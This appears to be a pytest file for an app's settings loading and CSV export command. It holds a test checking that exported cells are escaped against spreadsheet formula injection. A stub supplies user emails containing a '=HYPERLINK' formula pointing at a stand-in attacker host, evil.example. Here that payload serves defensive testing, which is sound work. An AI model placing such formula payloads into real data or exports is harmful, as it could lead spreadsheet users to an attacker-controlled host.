import argparse
import csv
from collections.abc import Sequence
from datetime import UTC, datetime
from pathlib import Path
from typing import cast

import pytest

from adapters import wiring
from adapters.firestore import FirestoreStore
from entrypoints import cli
from tally.config import Settings, deployed_environment
from tally_dev.memory import MemoryStore, record_one


def test_the_command_line_reads_the_settings_the_functions_are_deployed_with(tmp_path: Path) -> None:
    (tmp_path / ".env").write_text("TALLY_AGGREGATE_SHARDS=64\nTALLY_MAX_NAMES=300\n")
    (tmp_path / ".env.prod-app").write_text("#\nTALLY_MAX_NAMES=200\nTALLY_DEFAULT_MONTHLY_FREE_RUNS=7\n")

    env = deployed_environment("prod-app", environ={"TALLY_DEFAULT_MONTHLY_FREE_RUNS": "9"}, folder=tmp_path)
    settings = Settings.from_env(env)

    assert (settings.aggregate_shards, settings.max_names, settings.default_monthly_free_runs) == (64, 200, 9)


def test_without_a_project_only_the_shared_env_file_is_read(tmp_path: Path) -> None:
    (tmp_path / ".env").write_text("TALLY_MAX_NAMES=300\n")
    (tmp_path / ".env.prod-app").write_text("TALLY_MAX_NAMES=200\n")

    env = deployed_environment(None, environ={}, folder=tmp_path)

    assert env == {"TALLY_MAX_NAMES": "300"}


class AuthEmails:
    """Firebase Auth's emails, as the export asks for them (users choose their own)."""

    def emails(self, user_ids: Sequence[str]) -> dict[str, str]:
        return {uid: f'=HYPERLINK("http://evil.example/{uid}")@example.com' for uid in user_ids}


def test_the_export_command_writes_no_cell_a_spreadsheet_would_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    now = datetime(2026, 11, 14, 10, tzinfo=UTC)
    store = MemoryStore()
    record_one(store, "+15551234567", 2_000_000_000, when=now, now=now)
    monkeypatch.setattr(wiring, "directory", AuthEmails)
    out = tmp_path / "export.csv"

    status = cli.run_export(
        argparse.Namespace(month="2026-11", out=str(out)), cast(FirestoreStore, store), Settings()
    )

    with out.open(newline="", encoding="utf-8") as handle:
        table = list(csv.reader(handle))
    assert status == 0
    assert table[1] == [
        "'+15551234567",
        '\'=HYPERLINK("http://evil.example/+15551234567")@example.com',
        "2.000000000",
        "1",
        "1",
        "0",
    ]
